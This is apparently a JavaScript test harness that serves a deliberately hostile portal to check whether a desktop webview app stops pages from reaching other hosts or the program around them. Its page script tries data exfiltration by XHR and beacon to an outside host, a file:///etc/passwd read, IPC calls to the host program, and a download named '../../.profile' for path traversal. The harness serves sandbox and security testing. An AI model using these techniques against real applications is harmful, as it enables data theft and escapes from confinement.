// A portal that has been taken over: its pages try everything to reach another host or the program around them, and report.
import { createSocket } from 'node:dgram';
import { createServer as createHttp } from 'node:http';
import { createServer } from 'node:net';

/** What the page tries, by name. Runs inside the page; every attempt may fail as it likes. */
const attempts = `
  const tries = {
    image: () => { new Image().src = there + '/image.png'; },
    script: () => add('script', { src: there + '/script.js' }),
    style: () => add('link', { rel: 'stylesheet', href: there + '/style.css' }),
    imported: () => add('style', { textContent: '@import "' + there + '/imported.css"; @font-face { font-family: x; src: url(' + there + '/font.woff) } body { font-family: x }' }),
    frame: () => add('iframe', { src: there + '/frame' }),
    frameInside: () => add('iframe', { srcdoc: '<img src="' + there + '/inside.png"><meta http-equiv=refresh content="0;url=' + there + '/refresh">' }),
    object: () => add('object', { data: there + '/object' }),
    video: () => add('video', { src: there + '/video.mp4', autoplay: true }),
    fetch: () => fetch(there + '/fetch', { mode: 'no-cors' }),
    redirected: () => fetch('/redirect', { mode: 'no-cors' }),
    redirectedImage: () => { new Image().src = '/redirect'; },
    xhr: () => { const x = new XMLHttpRequest(); x.open('POST', there + '/xhr'); x.send('secret'); },
    beacon: () => navigator.sendBeacon(there + '/beacon', 'secret'),
    socket: () => { new WebSocket(there.replace('http', 'ws') + '/socket'); },
    events: () => { new EventSource(there + '/events'); },
    prefetch: () => add('link', { rel: 'prefetch', href: there + '/prefetch' }),
    preconnect: () => add('link', { rel: 'preconnect', href: there }),
    name: () => { new Image().src = 'http://elsewhere.example/image.png'; },
    nameFetch: () => fetch('https://elsewhere.example/', { mode: 'no-cors' }),
    namePreconnect: () => add('link', { rel: 'preconnect', href: 'http://elsewhere.example' }),
    namePrefetch: () => add('link', { rel: 'dns-prefetch', href: '//elsewhere.example' }),
    preload: () => add('link', { rel: 'preload', as: 'image', href: there + '/preload.png' }),
    worker: () => { new Worker(URL.createObjectURL(new Blob(['fetch("' + there + '/worker", { mode: "no-cors" })']))); },
    form: () => { add('iframe', { name: 'aside' }); const f = add('form', { action: there + '/form', method: 'post', target: 'aside' }); f.submit(); },
    window: () => window.open(there + '/window'),
    download: () => add('a', { href: there + '/download.pdf', download: 'elsewhere.pdf' }).click(),
    program: () => fetch('ipc://localhost/quit', { method: 'POST' }),
    ui: () => fetch('tauri://localhost/'),
    file: () => add('iframe', { src: 'file:///etc/passwd' }),
  };
  function add(tag, properties) { const e = Object.assign(document.createElement(tag), properties); document.body.append(e); return e; }
  async function report(where) {
    for (const attempt of Object.values(tries)) { try { await attempt(); } catch { /* that is the point */ } }
    const internals = ['__TAURI_INTERNALS__', '__TAURI__', '__TAURI_EVENT_PLUGIN_INTERNALS__', 'ipc'].filter((name) => name in window);
    const handlers = window.webkit?.messageHandlers?.ipc ? ['messageHandlers.ipc'] : [];
    await fetch('/report', { method: 'POST', body: JSON.stringify({ where, tried: Object.keys(tries).length, program: [...internals, ...handlers] }) });
  }`;

const page = (title, there, script) => `<!doctype html><meta charset=utf-8><title>${title}</title><body style="height:100vh">
  <script>const there = '${there}';${attempts}\n${script}</script>`;

/** Serves the hostile portal on one address and listens on another one, where nobody must ever come. */
export async function hostile({ portal, elsewhere, nowhere }) {
  const reports = [];
  const uploads = [];
  const strangers = [];
  const state = { dead: true };
  const there = `http://${elsewhere.host}:${elsewhere.port}`;
  const pages = {
    '/': page('Falle', there, `report('first').then(() => { onclick = () => window.open('/second'); document.title = 'Falle gestellt'; });`),
    '/second': page('Zweites Fenster', there, `report('second').then(() => { onclick = () => window.close(); document.title = 'Zweites fertig'; });`),
    '/files': page('Dateien', there, `
      add('a', { href: '/bescheid', download: '' }).click();
      const form = new FormData(); form.append('datei', new File(['con0'], 'abrechnung.con'));
      fetch('/upload', { method: 'POST', body: form }).then(() => { document.title = 'Dateien fertig'; });`),
    '/choose': page('Auswahl', there, `const f = add('input', { type: 'file' }); onclick = () => f.showPicker?.() ?? f.click();`),
    '/leave': page('Weg', there, `location.href = there + '/navigation';`),
    '/leave-by-redirect': page('Weg', there, `location.href = '/redirect';`),
    '/alive': page('Wieder da', there, ''),
  };
  const server = createHttp((request, response) => {
    const path = new URL(request.url, 'http://portal').pathname;
    if (path === '/report' || path === '/upload') {
      let body = '';
      request.on('data', (data) => { body += data; });
      request.on('end', () => {
        if (path === '/report') reports.push(JSON.parse(body)); else uploads.push(body);
        response.end();
      });
    } else if (path === '/redirect') {
      response.writeHead(302, { location: `${there}/redirected` }).end();
    } else if (path === '/bescheid') {
      response.writeHead(200, { 'content-type': 'application/pdf', 'content-disposition': 'attachment; filename="../../.profile"' }).end('PDF');
    } else if (path === '/dead') {
      if (state.dead) request.socket.destroy(); else response.setHeader('content-type', 'text/html').end(pages['/alive']);
    } else if (path in pages) {
      response.setHeader('content-type', 'text/html').end(pages[path]);
    } else {
      response.writeHead(404).end();
    }
  });
  const listen = (to) => createServer((socket) => {
    socket.once('data', (data) => strangers.push(`${to}: ${data.toString('latin1').split('\r\n', 1)[0]}`));
    socket.once('close', () => strangers.push(`${to}: connection`));
    socket.on('error', () => undefined);
  });
  const up = (on, { host, port }) => new Promise((resolve) => { on.listen(port, host, resolve); });
  // The name service: only counts.
  const names = createSocket('udp4');
  names.on('message', (question) => { strangers.push(`a name: ${question.toString('latin1').replace(/[^ -~]/g, '.')}`); });
  names.bind(53, '127.0.0.1');
  await Promise.all([up(server, portal), up(listen('elsewhere'), elsewhere), up(listen('nowhere'), nowhere)]);
  return { reports, uploads, strangers, state };
}
